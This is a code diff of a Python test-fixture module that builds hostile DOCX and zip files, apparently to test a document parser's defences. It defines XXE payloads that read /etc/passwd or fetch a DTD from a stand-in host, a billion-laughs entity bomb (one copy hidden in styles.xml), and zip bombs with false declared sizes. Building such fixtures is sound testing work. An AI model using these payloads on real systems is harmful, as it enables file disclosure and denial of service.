@@ -184,12 +184,15 @@ def add_part(data: bytes, name: str, body: bytes, content_type: str, rel_type: s
     """Add a part related from word/document.xml, with its content-type override."""
 
     def ct(old: bytes) -> bytes:
-        return old.replace(b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode())
+        return old.replace(
+            b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
+        )
 
     def rels(old: bytes) -> bytes:
         target = name.split("/", 1)[1]
         return old.replace(
-            b"</Relationships>", f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"/></Relationships>'.encode()
+            b"</Relationships>",
+            f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"/></Relationships>'.encode(),
         )
 
     return rewrite_zip(
@@ -199,32 +202,13 @@ def add_part(data: bytes, name: str, body: bytes, content_type: str, rel_type: s
 
 def raw_zip(members: Iterable[tuple[str, bytes] | tuple[str, bytes, int]], *, level: int = 6) -> bytes:
     """A zip written by hand; a third tuple item overrides the declared uncompressed size (to lie)."""
-    local = io.BytesIO()
-    central = io.BytesIO()
-    count = 0
+    packed = []
     for item in members:
         name, body = item[0], item[1]
         declared = item[2] if len(item) > 2 else len(body)  # type: ignore[misc]
         comp = zlib.compressobj(level, zlib.DEFLATED, -15)
-        packed = comp.compress(body) + comp.flush()
-        crc = zlib.crc32(body) & 0xFFFFFFFF
-        fname = name.encode()
-        offset = local.tell()
-        local.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed), declared, len(fname), 0))
-        local.write(fname)
-        local.write(packed)
-        central.write(
-            struct.pack(
-                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(packed), declared,
-                len(fname), 0, 0, 0, 0, 0, offset,
-            )
-        )
-        central.write(fname)
-        count += 1
-    cd = central.getvalue()
-    cd_offset = local.tell()
-    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(cd), cd_offset, 0)
-    return local.getvalue() + cd + end
+        packed.append((name, comp.compress(body) + comp.flush(), declared, zlib.crc32(body) & 0xFFFFFFFF))
+    return raw_zip_prepacked(packed)
 
 
 def zip_members(data: bytes) -> list[tuple[str, bytes]]:
@@ -251,20 +235,20 @@ def zero_bomb_member(name: str, gigabytes: float) -> tuple[str, bytes, int, int]
 
 
 def raw_zip_prepacked(members: Iterable[tuple[str, bytes, int, int]]) -> bytes:
-    """A zip from already-deflated members: (name, raw deflate, uncompressed size, crc32)."""
+    """A zip from already-deflated members: (name, raw deflate, declared uncompressed size, crc32)."""
     local = io.BytesIO()
     central = io.BytesIO()
     count = 0
     for name, packed, size, crc in members:
         fname = name.encode()
         offset = local.tell()
-        local.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed), size, len(fname), 0))
-        local.write(fname)
-        local.write(packed)
+        # version 20, no flags, deflate (8), fixed DOS time/date; sizes as given
+        sizes = (crc, len(packed), size, len(fname))
+        local.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, *sizes, 0))
+        local.write(fname + packed)
         central.write(
             struct.pack(
-                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(packed), size,
-                len(fname), 0, 0, 0, 0, 0, offset,
+                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, 0, offset
             )
         )
         central.write(fname)
@@ -311,7 +295,9 @@ def contract_document() -> docx.document.Document:
     p.add_run("using AES-256 ")
     anchored = p.add_run("for stored backups")
     p.add_run(".")
-    d.add_comment([anchored], text="Ask whether backups are covered.", author="District Reviewer", initials="DR")
+    d.add_comment(
+        [anchored], text="Ask whether backups are covered.", author="District Reviewer", initials="DR"
+    )
     numbered(d, "with keys held by the Provider only.", OUTLINE_NUM, 3)  # (i)
     numbered(d, "Breach Notification", OUTLINE_NUM, 0, style="Heading 1")  # 3.
     tp = add_tracked_paragraph(
@@ -391,16 +377,18 @@ def simple_docx(paragraphs: Iterable[str] = ("The Provider shall delete Student 
 XXE_FILE = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
-    f'<w:document {NSDECL}><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>'
+    f"<w:document {NSDECL}><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
 )
 XXE_NETWORK = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<!DOCTYPE w:document SYSTEM "http://192.0.2.1/evil.dtd">\n'
-    f'<w:document {NSDECL}><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>'
+    f"<w:document {NSDECL}><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>"
 )
 BILLION_LAUGHS = (
     '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
-    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
+    + "".join(
+        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
+    )
     + f"]>\n<w:document {NSDECL}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
 )
 
@@ -423,7 +411,9 @@ def billion_laughs_docx(utf16: bool = False) -> bytes:
 
 def entity_in_styles_docx() -> bytes:
     """The DTD hides in styles.xml, a part python-docx would parse too."""
-    xml = BILLION_LAUGHS.replace("w:document", "w:styles").replace("<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>", "<w:docDefaults/>")
+    xml = BILLION_LAUGHS.replace("w:document", "w:styles").replace(
+        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>", "<w:docDefaults/>"
+    )
     return rewrite_zip(simple_docx(), replace={"word/styles.xml": xml.encode()})
 
 
@@ -462,7 +452,11 @@ def external_links_docx() -> bytes:
     )
     return rewrite_zip(
         data,
-        replace={"word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", image_rel.encode() + b"</Relationships>")},
+        replace={
+            "word/_rels/document.xml.rels": lambda old: old.replace(
+                b"</Relationships>", image_rel.encode() + b"</Relationships>"
+            )
+        },
         add={"word/_rels/settings.xml.rels": settings_rels.encode()},
     )
 
